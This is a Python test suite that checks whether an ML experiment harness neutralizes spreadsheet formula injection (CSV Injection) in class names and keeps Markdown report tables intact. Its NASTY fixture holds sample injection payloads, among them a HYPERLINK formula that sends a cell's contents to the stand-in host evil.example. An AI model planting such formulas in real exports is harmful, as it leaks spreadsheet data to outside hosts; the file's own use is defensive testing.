"""Every file the harness writes is safe to open: class names that a spreadsheet would run as formulas (OWASP
"CSV Injection", CWE-1236) come out neutralized in every CSV, numbers stay numbers, and a class name with a |,
quotes, commas, a newline, non-ASCII or 200+ characters cannot break a Markdown table."""

import csv
import io
import re
import tempfile
from pathlib import Path

import optuna
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from mlflow import MlflowClient

from sweep.cli import main
from sweep.config import load_config
from sweep.data.synthetic import synthetic_frame
from sweep.files import frame_csv, write_atomic, write_csv
from sweep.models.metrics import evaluate
from sweep.report.document import write_per_class
from sweep.report.meeting import write_meeting
from sweep.report.table import load_predictions, scored_tables
from sweep.search.pareto import reference_trial
from sweep.search.storage import open_storage

FORMULA = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list, written here again: the test does not trust the code's
NUMBER = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?")
NASTY = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Debt")',
    "+SUM(1,2)",
    "@cmd",
    "-2+3",
    'Loans | "personal", auto\nand student',
    "Crédit à la consommation, 信用卡 " + "x" * 210,
]


def expected_cell(name: str) -> str:
    """What a CSV cell holding this text must read back as: a formula-looking text prefixed with '."""
    return "'" + name if name.startswith(FORMULA) and not NUMBER.fullmatch(name) else name


def read(path: Path) -> str:
    return path.read_bytes().decode("utf-8")  # as written: a CR inside a quoted cell stays a CR


def assert_safe_csv(text: str, numeric: tuple[str, ...] = (), names: list[str] = ()) -> list[dict[str, str]]:
    """Read back with the csv module: one width; no cell starts with a formula character unless it is a number;
    the `numeric` columns hold numbers or nothing; each of `names` a spreadsheet would run is in the file
    neutralized and quoted. Returns the rows."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    for row in rows:
        assert len(row) == len(header), row
        for cell in row:
            assert not cell.startswith(FORMULA) or NUMBER.fullmatch(cell), f"a formula cell: {cell!r}"
    for name in names:
        if expected_cell(name) != name:
            quoted = '"' + expected_cell(name).replace('"', '""') + '"'
            assert quoted in text, f"{name!r} not neutralized and quoted"
    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    for column in numeric:
        assert column in header, column
        for r in records:
            assert r[column] == "" or NUMBER.fullmatch(r[column]) or r[column] in ("nan", "inf"), (column, r[column])
    return records


def assert_tables_hold(markdown: str) -> int:
    """Every GitHub table in the text: each row has the header's number of cells (unescaped |). Returns the
    number of table rows seen."""
    seen, width = 0, None
    for line in [*markdown.splitlines(), ""]:
        if not line.startswith("|"):
            width = None
            continue
        cells = len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) - 1
        width = cells if width is None else width
        assert cells == width, line
        seen += 1
    return seen


@pytest.fixture(scope="module")
def swept(tmp_path_factory, mlflow_store):
    """A real sweep and export on a labelled CSV whose class names are the user's report's (formulas, a |, quotes,
    commas, a newline, non-ASCII, 200+ characters): data=csv on the synthetic texts, renamed."""
    root = tmp_path_factory.mktemp("safe")
    mlflow_store(root / "mlruns")
    frame = synthetic_frame(load_config(["data=synthetic"]).data, 0)
    frame["label"] = frame["label"].map({f"class_{k}": name for k, name in enumerate(NASTY)})
    frame.to_csv(root / "tickets.csv", index=False)
    args = [f"paths.root={root}", "data=csv", f"data.path={root / 'tickets.csv'}", "data.min_class_count=1"]
    args += ["task_name=test", "sweep.n_trials=4", "sweep.study_name=safe"]
    assert main(["sweep", *args]) == 0
    assert main(["export", *args, "study=safe", f"out={root / 'safe.csv'}", "n_boot=100"]) == 0
    cfg = load_config(args)
    study = optuna.load_study(study_name="safe", storage=open_storage(cfg))
    client = MlflowClient(cfg.tracking.tracking_uri)
    table, baselines = scored_tables(study, client, n_boot=50)
    return {"root": root, "study": study, "client": client, "table": table, "baselines": baselines}


@pytest.mark.slow  # a whole sweep in-process and every report: make test's, not the edit loop's
def test_a_sweep_on_formula_class_names_writes_only_safe_files(swept):
    root, client, study = swept["root"], swept["client"], swept["study"]
    written = [p for p in root.rglob("*.csv") if p.name != "tickets.csv" and "data" not in p.relative_to(root).parts]
    names = {p.name for p in written}
    assert {"safe.csv", "safe_meeting.csv", "safe_tied.csv", "per_class.csv"} <= names, names
    for path in written:
        assert_safe_csv(read(path))
    per_class = assert_safe_csv(
        read(root / "safe_report" / "per_class.csv"),
        numeric=("training examples", "test examples", "F1 unweighted"),
        names=NASTY,
    )
    assert sorted(r["class"] for r in per_class) == sorted(expected_cell(n) for n in NASTY)  # every name, whole
    # the MLflow artifacts: each trial's per-class table and the parent run's tables
    parent = study.user_attrs["mlflow_parent_run_id"]
    for path in ("pareto.csv", "export/safe_meeting.csv", "export/per_class.csv"):  # log_table, export
        assert_safe_csv(read(Path(client.download_artifacts(parent, path))))
    runs = [t.user_attrs["mlflow_run_id"] for t in study.trials if t.user_attrs.get("mlflow_run_id")]
    for run in runs:
        rows = assert_safe_csv(read(Path(client.download_artifacts(run, "per_class_val.csv"))), names=NASTY)
        assert sorted(r[next(iter(r))] for r in rows) == sorted(expected_cell(n) for n in NASTY)
    # the Markdown: every table keeps its columns; the names are there, readable, on one line
    for md in [*root.glob("*.md"), *(root / "safe_report").glob("*.md")]:
        assert_tables_hold(read(md))
    text = read(root / "safe_report" / "per_class.md")
    assert assert_tables_hold(text) == 2 + len(NASTY)
    assert 'Loans \\| "personal", auto and student' in text and '=HYPERLINK("http://evil.example/' in text
    assert "信用卡 " + "x" * 210 in text


def _rename(cell, names: dict[str, str]):
    return "; ".join(names[n] for n in cell.split("; ") if n) if isinstance(cell, str) else cell


class_name = st.one_of(
    st.text(min_size=1, max_size=40),
    st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "|", '"', "'="]), st.text(max_size=30)).map("".join),
    st.text(alphabet=st.sampled_from(list(',"|\n\r\t;=+-@é信 ')), min_size=1, max_size=12),
    st.text(min_size=200, max_size=260),
)


@pytest.mark.slow  # generated cases through every report writer: make test's, not the edit loop's
@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=st.data())
def test_any_class_names_give_safe_csv_and_whole_markdown_tables(swept, data):
    """The writers that take class names, on the sweep's real predictions and front rows with the classes
    renamed: the per-class files, the meeting table, the front's CSV, a trial's per-class MLflow table."""
    client, study = swept["client"], swept["study"]
    ref = reference_trial(study)
    reference = load_predictions(client, ref.user_attrs["mlflow_run_id"])
    old = list(reference["names"])
    new = data.draw(st.lists(class_name, min_size=len(old), max_size=len(old), unique=True), label="names")
    names = dict(zip(old, new, strict=True))
    points = {
        int(t): {**p, "names": new}
        for t in swept["table"]["trial"]
        if (p := load_predictions(client, study.trials[int(t)].user_attrs["mlflow_run_id"]))
    }
    table, baselines = (
        f.assign(**{c: f[c].map(lambda v: _rename(v, names)) for c in ("classes_gained", "classes_lost") if c in f})
        for f in (swept["table"], swept["baselines"])
    )
    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp)
        files, text = write_per_class(folder, {**reference, "names": new}, {f"trial {t}": p for t, p in points.items()})
        rows = assert_safe_csv(read(files[1]), ("training examples", "F1 unweighted"), new)
        assert sorted(r["class"] for r in rows) == sorted(expected_cell(n) for n in new)
        assert assert_tables_hold(text) == 2 + len(new)
        meeting, md = write_meeting(table, baselines, folder / "front.csv")
        figures = ("test_accuracy_pct", "test_accuracy_pct_low", "delta_test_macro_f1_points", "classes_detected")
        said = assert_safe_csv(read(meeting[1]), figures)
        renamed = {v for f in (table, baselines) for v in f.get("classes_gained", []) if isinstance(v, str)}
        assert {r["classes_gained"] for r in said} <= {"", *(expected_cell(v) for v in renamed)}
        assert assert_tables_hold(md) == 2 + len(said)
        csv_text = read(write_csv(table, folder / "front_table.csv"))
        assert_safe_csv(csv_text, ("trial", "val_accuracy", "test_accuracy", "test_macro_f1_ci_low"))
    y = reference["y"]
    _, per_class = evaluate(y, reference["pred"], new)
    rows = assert_safe_csv(frame_csv(per_class, "%.4f"), tuple(per_class.columns[1:]), new)  # tracking.log_result's
    assert sorted(r[per_class.columns[0]] for r in rows) == sorted(expected_cell(n) for n in new)


def test_the_reports_cells_are_neutralized_and_numbers_are_not():
    frame = pd.DataFrame(
        {
            "class": [*NASTY[:4], "-0.5", "Debt"],
            "count": [1, 2, 3, 4, 5, 6],
            "share": [0.5, -0.25, float("nan"), 1e-05, 2.0, -3.0],
        }
    )
    rows = list(csv.reader(io.StringIO(frame_csv(frame), newline="")))
    assert [r[0] for r in rows[1:]] == [*(f"'{n}" for n in NASTY[:4]), "-0.5", "Debt"]
    assert [r[1:] for r in rows[1:]] == [
        ["1", "0.5"],
        ["2", "-0.25"],
        ["3", ""],
        ["4", "1e-05"],
        ["5", "2.0"],
        ["6", "-3.0"],
    ]
    assert frame_csv(frame).splitlines()[1] == '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Debt"")",1,0.5'
    assert frame_csv(frame, "%.4f").splitlines()[2] == '"\'+SUM(1,2)",2,-0.2500'


def test_write_atomic_leaves_the_old_file_or_the_new_one_and_no_temporary(tmp_path):
    target = tmp_path / "out.csv"
    write_atomic(target, "old\n")

    def broken(tmp: Path) -> None:
        tmp.write_text("half")
        raise OSError("No space left on device")

    with pytest.raises(OSError, match="No space"):
        write_atomic(target, broken)
    assert target.read_text() == "old\n" and [p.name for p in tmp_path.iterdir()] == ["out.csv"]

    def folder(tmp: Path) -> None:  # a whole directory, as the features cache writes one
        tmp.mkdir()
        (tmp / "train.npy").write_bytes(b"x")
        raise OSError("killed")

    with pytest.raises(OSError, match="killed"):
        write_atomic(tmp_path / "cache", folder)
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]
    assert write_atomic(tmp_path / "b.bin", b"\x00\x01").read_bytes() == b"\x00\x01"
